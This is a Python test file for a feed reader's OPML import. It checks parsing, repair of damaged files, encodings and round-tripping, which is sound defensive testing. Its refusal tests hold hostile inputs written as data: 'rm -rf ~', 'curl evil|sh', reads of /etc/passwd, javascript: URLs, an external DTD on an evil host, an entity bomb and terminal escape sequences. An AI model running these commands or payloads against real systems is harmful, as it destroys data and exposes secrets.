"""OPML: every shape in the wild is read, nothing in it can run or name a file, what we write comes back."""

from __future__ import annotations

from contextlib import suppress
from datetime import UTC, datetime
from html import unescape

import pytest
from floods import examples
from hypothesis import example, given, settings
from hypothesis import strategies as st

from reader.domain import opml
from reader.domain.errors import UsageError
from reader.domain.opml import Opml, OpmlFeed, OpmlFolder, feeds, parse
from reader.domain.opml_write import write
from reader.domain.text import is_clean

NOW = datetime(2026, 5, 4, 12, 0, tzinfo=UTC)


def body(inside: str, head: str = "") -> bytes:
    return f"<?xml version='1.0' encoding='UTF-8'?><opml version='2.0'>{head}<body>{inside}</body></opml>".encode()


def test_folders_nest_and_titles_are_told_apart() -> None:
    found = parse(
        body(
            """<outline text="Báo" title="Báo" isOpen="true">
                 <outline text="Mine" title="Theirs" type="rss" xmlUrl="https://a.example/f" htmlUrl="https://a.example/"/>
                 <outline text="Inner"><outline text="B" xmlUrl="https://b.example/f"/></outline>
               </outline>
               <outline text="C" title="C" xmlUrl="http://c.example/f" category="x,y" version="RSS"/>""",
            head="<head><title>My feeds</title></head>",
        )
    )
    assert found.title == "My feeds"
    assert found.refused == ()
    assert found.nodes == (
        OpmlFolder(
            "Báo",
            (
                OpmlFeed("https://a.example/f", "Theirs", "Mine", "https://a.example/", "rss"),
                OpmlFolder("Inner", (OpmlFeed("https://b.example/f", "B"),)),
            ),
            {"isOpen": "true"},
        ),
        OpmlFeed("http://c.example/f", "C", extra={"category": "x,y", "version": "RSS"}),
    )
    assert [path for path, _feed in feeds(found.nodes)] == [("Báo",), ("Báo", "Inner"), ()]


@pytest.mark.parametrize(
    "inside",
    [
        '<outline text="A" XMLURL="https://a.example/f"/>',
        '<outline text="A" xmlurl=" https://a.example/f "/>',
        '<outline title="A" xmlUrl="https://a.example/f"></outline>',
        '<outline text="A" xmlUrl="feed://a.example/f"/>'.replace("feed://", "feed:https://"),
        '<outline text="A" xmlUrl="https://a.example/f"><outline text="&#65;"/></outline>',
        '<outline text="X" type="rss"><outline text="A" xmlUrl="https://a.example/f"/></outline>',
        '<OUTLINE text="A" xmlUrl="https://a.example/f"/>',
        '<o:outline xmlns:o="urn:o" text="A" xmlUrl="https://a.example/f"/>',
    ],
)
def test_other_spellings_are_read(inside: str) -> None:
    ((_path, feed),) = feeds(parse(body(inside)).nodes)
    assert (feed.url, feed.title or feed.own_title) == ("https://a.example/f", "A")


@pytest.mark.parametrize(
    "data",
    [
        body('<outline text="R & B &nbsp;&eacute;" xmlUrl="https://a.example/?a=1&b=2"/>'),
        body('<outline text="R &amp; B é" xmlUrl="https://a.example/?a=1&amp;b=2"/>').replace("é".encode(), b"\xe9"),
        body('<outline text="R &amp; B é\x01" xmlUrl="https://a.example/?a=1&amp;b=2"/>'),
        b"\xef\xbb\xbf" + body('<outline text="R &amp; B é" xmlUrl="https://a.example/?a=1&amp;b=2"/>'),
        body('<outline text="R &amp; B é" xmlUrl="https://a.example/?a=1&amp;b=2"/>').decode().replace(
            "UTF-8", "UTF-16").encode("utf-16"),
        b"\n\n" + body('<outline text="R &amp; B é" xmlUrl="https://a.example/?a=1&amp;b=2"/>'),
        b'<opml><outline text="R &amp; B \xc3\xa9" xmlUrl="https://a.example/?a=1&amp;b=2"/></opml>',
    ],
)  # fmt: skip
def test_common_damage_is_mended(data: bytes) -> None:
    found = parse(data)
    ((_path, feed),) = feeds(found.nodes)
    assert (feed.url, feed.title) == ("https://a.example/?a=1&b=2", "R & B é")
    assert found.refused == ()


def test_a_file_that_breaks_off_keeps_what_stood_before() -> None:
    whole = body(
        '<outline text="F"><outline text="A" xmlUrl="https://a.example/f"/><outline text="B" xmlUrl="https://b'
    )
    found = parse(whole[: whole.rindex(b"https://b") + 9])
    assert found.nodes == (OpmlFolder("F", (OpmlFeed("https://a.example/f", "A"),)),)
    assert found.damage == ("The file is damaged at line 1; what follows is lost.",)


@pytest.mark.parametrize(
    "list_of_feeds",
    [
        '<opml><body><outline text="A" xmlUrl="https://a.example/f" note="a < b"/></body></opml>',
        '<opml><body><outline text="A" note="says "so" there" xmlUrl="https://a.example/f"/></body></opml>',
        "<opml><body><outline text=A xmlUrl=https://a.example/f></body></opml>",
        '<opml><body><outline text="A" text="B" xmlUrl="https://a.example/f"/></body></opml>',
        '<opml><body><outline text="A" fr:x="1" xmlUrl="https://a.example/f"/></body></opml>',
        '<opml><body><outline text="A" & xmlUrl="https://a.example/f" / ></body></opml>',
        '<opml><body><outline text="A"xmlUrl="https://a.example/f"/></body></opml>',
        '<opml><body><outline text="Z" note="><outline text="A" xmlUrl="https://a.example/f"/></body></opml>',
    ],
)
def test_what_is_no_xml_is_read_tag_by_tag(list_of_feeds: str) -> None:
    found = parse(list_of_feeds.encode())
    ((_path, feed),) = feeds(found.nodes)
    assert (feed.url, feed.title) == ("https://a.example/f", "A")
    assert found.damage == ("The file is damaged at line 1; the feeds that could still be read were taken.",)


def test_reading_tag_by_tag_takes_no_time() -> None:
    for part in ('<outline a="', "<outline a='b", '<outline a="b"c', "<outline ", "<outline a=", "<", '" '):
        with suppress(UsageError):
            parse(("<opml><<" + part * 20_000).encode())


@pytest.mark.parametrize(
    "list_of_feeds",
    [
        "<!-- mine --><?xml version='1.0'?><opml><body>{}</body></opml>",
        "Here they are:\n<opml><body>{}</body></opml>\nbye",
        "<?xml version='1.0' encoding='klingon'?><opml><body>{}</body></opml>",
        "<?xml version='1.0'?><!DOCTYPE opml SYSTEM 'https://evil.test/opml.dtd'><opml><body>{}</body></opml>",
        "<!DOCTYPE opml [<!ELEMENT opml (head,body)>]><opml><body>{}</body></opml>",
        "<OPML><BODY>{}</BODY></OPML>",
        "<opml xmlns='http://opml.org/spec2'><body>{}</body></opml>",
        "<outlineDocument>{}</outlineDocument>",
        "<html><body>{}</body></html>",
        "{}",
    ],
)
def test_frames_found_in_the_wild(list_of_feeds: str) -> None:
    found = parse(list_of_feeds.format('<outline text="A" xmlUrl="https://a.example/f"/>').encode())
    assert found.nodes == (OpmlFeed("https://a.example/f", "A"),)
    assert found.refused == ()


@pytest.mark.parametrize(
    "encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "gb18030", "shift_jis"]
)
@pytest.mark.parametrize("claims", [True, False])
def test_encodings(encoding: str, claims: bool) -> None:
    name = encoding.removesuffix("-sig") if claims or encoding in ("gb18030", "shift_jis") else "UTF-8"
    text = f'<?xml version="1.0" encoding="{name}"?><opml><body><outline text="日本" xmlUrl="https://a.example/"/></body></opml>'
    assert parse(text.encode(encoding)).nodes == (OpmlFeed("https://a.example/", "日本"),)


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ('text="A" type="rss" url="https://a.example/f"', "https://a.example/f"),
        ('text="A" type="atom" url="https://a.example/f"', "https://a.example/f"),
        ('text="A" feedURL="https://a.example/f"', "https://a.example/f"),
        ('text="A" xmlUrl="feed://a.example/f"', "http://a.example/f"),
        ('text="A" xmlUrl="feed:https://a.example/f"', "https://a.example/f"),
        ('text="A" xmlUrl="itpc://a.example/f"', "http://a.example/f"),
        ('text="A" xmlUrl="PCAST://a.example/f"', "http://a.example/f"),
        ('text="A" xmlUrl="feed://https://a.example/f"', "https://a.example/f"),
        ('text="A" xmlUrl="www.a.example/f"', "http://www.a.example/f"),
        ('text="A" xmlUrl=" https://a.example/\n      f "', "https://a.example/f"),
        ('text="A" xmlUrl="https://a.example/?a=1&amp;amp;b=2"', "https://a.example/?a=1&b=2"),
    ],
)
def test_addresses_as_they_are_meant(written: str, meant: str) -> None:
    ((_path, feed),) = feeds(parse(body(f"<outline {written}/>")).nodes)
    assert (feed.url, feed.title) == (meant, "A")


def test_what_a_feed_says_of_itself_is_not_its_name() -> None:
    """gPodder writes the description of a podcast as the text of its outline."""
    line = '<outline title="A" text="All about A." xmlUrl="https://a.example/f"/>'
    for maker, shown in (("gPodder subscriptions", "A"), ("Mine", "All about A.")):
        listed = f"<opml><head><title>{maker}</title></head><body>{line}</body></opml>"
        ((_path, feed),) = feeds(parse(listed.encode()).nodes)
        assert (feed.own_title or feed.title) == shown


def test_titles_that_were_escaped_once_too_often() -> None:
    found = parse(body('<outline text="R &amp;amp; B &amp;#8211; caf&amp;eacute;" xmlUrl="https://a.example/f"/>'))
    assert found.nodes == (OpmlFeed("https://a.example/f", "R & B – café"),)


def test_what_is_commented_out_is_left_out() -> None:
    a, b = ('<outline text="A" xmlUrl="https://a.example/f"/>', '<outline text="B" xmlUrl="https://b.example/f"/>')
    found = parse(body(f'<outline text="F" isComment="true">{a}<outline text="G">{a}</outline></outline>{b}'))
    assert found.nodes == (OpmlFeed("https://b.example/f", "B"),)


def test_a_category_with_slashes_is_a_folder() -> None:
    found = parse(
        body(
            '<outline text="News"><outline text="N" xmlUrl="https://n.example/"/></outline>'
            '<outline text="A" xmlUrl="https://a.example/" category="/News/World,/Other"/>'
            '<outline text="B" xmlUrl="https://b.example/" category="tag"/>'
            '<outline text="C" xmlUrl="https://c.example/" category="/News/World"/>'
        )
    )
    assert [("/".join(path), feed.title) for path, feed in feeds(found.nodes)] == [
        ("News", "N"),
        ("News/World", "A"),
        ("News/World", "C"),
        ("", "B"),
    ]


def test_thousands_of_lines_in_as_many_categories() -> None:
    lines = "".join(f'<outline xmlUrl="https://a.example/{n}" category="/a{n}/b{n}"/>' for n in range(3000))
    assert len(list(feeds(parse(body(lines)).nodes))) == 3000


@pytest.mark.parametrize(
    "address",
    [
        "exec:rm -rf ~",
        "EXEC: curl evil|sh",
        "| cat /etc/passwd",
        "filter:/bin/x:https://a.example/",
        "query:unread:x",
        "file:///etc/passwd",
        "/etc/passwd",
        "javascript:alert(1)",
        "data:text/xml,x",
        "sample:news",
        "ftp://a.example/f",
        "https://",
        "\u202ehttps://a.example/",
    ],
)
def test_what_is_no_address_is_refused_by_name_and_the_rest_is_read(address: str) -> None:
    quoted = address.replace("&", "&amp;")
    found = parse(body(f'<outline text="Evil" xmlUrl="{quoted}"/><outline text="A" xmlUrl="https://a.example/f"/>'))
    assert found.nodes == (OpmlFeed("https://a.example/f", "A"),)
    (sentence,) = found.refused
    assert "Evil" in sentence
    assert is_clean(sentence)


def test_our_own_file_may_name_paths() -> None:
    assert parse(body('<outline text="A" xmlUrl="/home/me/feeds"/>'), trusted=True).nodes[0].url == "/home/me/feeds"  # type: ignore[union-attr]


def test_another_list_is_not_fetched() -> None:
    found = parse(body('<outline text="More" type="include" url="https://a.example/more.opml"/>'))
    assert found.nodes == ()
    assert "More" in found.refused[0]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "no OPML"),
        (b"hello", "no OPML"),
        (b"<html><body>Not found</body></html>", "no OPML"),
        (b"<!DOCTYPE opml [<!ENTITY a 'x'>]><opml><body/></opml>", "document type"),
        (b"<rss><channel/></rss>", "no OPML"),
        (bytes(200), "no OPML"),
        (b"\xff" * 200, "no OPML"),
    ],
)
def test_what_is_no_list_is_refused_with_a_sentence(data: bytes, words: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse(data)
    assert words in str(caught.value)
    assert str(caught.value).endswith(".")


def test_an_entity_bomb_costs_nothing() -> None:
    levels = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 20))
    bomb = f"<!DOCTYPE opml [<!ENTITY e0 'x'>{levels}]><opml><body><outline text='&e19;'/></body></opml>"
    with pytest.raises(UsageError, match="document type"):
        parse(bomb.encode())


def test_too_large_and_too_deep_and_too_many() -> None:
    with pytest.raises(UsageError, match="20 MB"):
        parse(b"<opml>" + b" " * opml.MAX_BYTES)
    feed = '<outline text="A" xmlUrl="https://a.example/f"/>'
    deep = parse(body('<outline text="x">' * 500 + feed + "</outline>" * 500))
    ((path, _feed),) = feeds(deep.nodes)
    assert len(path) == opml.MAX_DEPTH
    many = "".join(f'<outline text="{n}" xmlUrl="exec:{n}"/>' for n in range(300))
    refusing = parse(body(many))
    assert (len(refusing.refused), refusing.lines_refused, len(refusing.damage)) == (100, 300, 1)


def test_hostile_text_is_cleaned_and_cut() -> None:
    title = "&#27;]52;c;x&#7;\u202e" + "a" * 5000
    more = " ".join(f"a{number}='1'" for number in range(99))
    data = body(f'<outline text="{title}" xmlUrl="https://a.example/f" x="&#10;y" {more}/>')
    ((_path, feed),) = feeds(parse(data).nodes)
    assert is_clean(feed.title)
    assert len(feed.title) == opml.MAX_TITLE
    assert len(feed.extra) == opml.MAX_EXTRA


def test_an_empty_list_is_a_list() -> None:
    assert parse(body("")) == Opml()


# `&LT;` is read as the letter that it stands for: many programs escape once too often.
WORDS = (
    st.text(st.characters(exclude_categories=["Cs", "Cc", "Co", "Cn"]), max_size=12)
    .map(lambda text: opml.clean_line(text))
    .filter(lambda text: unescape(text) == text)
)
TITLES = WORDS.filter(bool)
NAMES = st.from_regex(r"(\{urn:[a-z]{1,5}\})?[a-z][a-z0-9]{0,7}", fullmatch=True).filter(
    lambda name: (
        name.rpartition("}")[2] not in ("text", "title", "type", "xmlurl", "htmlurl", "xmlns", "url", "xml")
        and not name.startswith("xml")
    )
)
EXTRA = st.dictionaries(NAMES, WORDS, max_size=4)


@st.composite
def one_feed(draw: st.DrawFn) -> OpmlFeed:
    title = draw(WORDS)
    own = draw(WORDS) if title else ""
    number = draw(st.integers(0, 99))
    site = draw(st.sampled_from(["", "https://site.example/"]))
    url = f"https://feed{number}.example/?a=1&b='2'"
    return OpmlFeed(url, title, "" if own == title else own, site, draw(st.sampled_from(["rss", "atom"])), draw(EXTRA))


TREES = st.lists(
    st.recursive(
        one_feed(),
        lambda inner: st.builds(OpmlFolder, TITLES, st.lists(inner, max_size=3).map(tuple), EXTRA),
        max_leaves=8,
    ),
    max_size=4,
).map(tuple)


@given(TREES, WORDS)
@example((OpmlFolder("&lt;", (OpmlFeed("https://a.example/f", "&amp;lt;", "a &amp; b"),)),), "&lt;")
@settings(max_examples=examples(40))
def test_what_is_written_comes_back(nodes: tuple[OpmlFeed | OpmlFolder, ...], title: str) -> None:
    found = parse(write(nodes, title=title, now=NOW).encode())
    assert found == Opml(nodes, title)


@given(st.binary(max_size=300) | st.text(max_size=300).map(lambda text: body(text)))
def test_any_bytes_give_a_list_or_a_sentence(data: bytes) -> None:
    with suppress(UsageError):
        for _path, feed in feeds(parse(data).nodes):
            assert feed.url.startswith(("http://", "https://", "gemini://"))
            assert is_clean(feed.title)
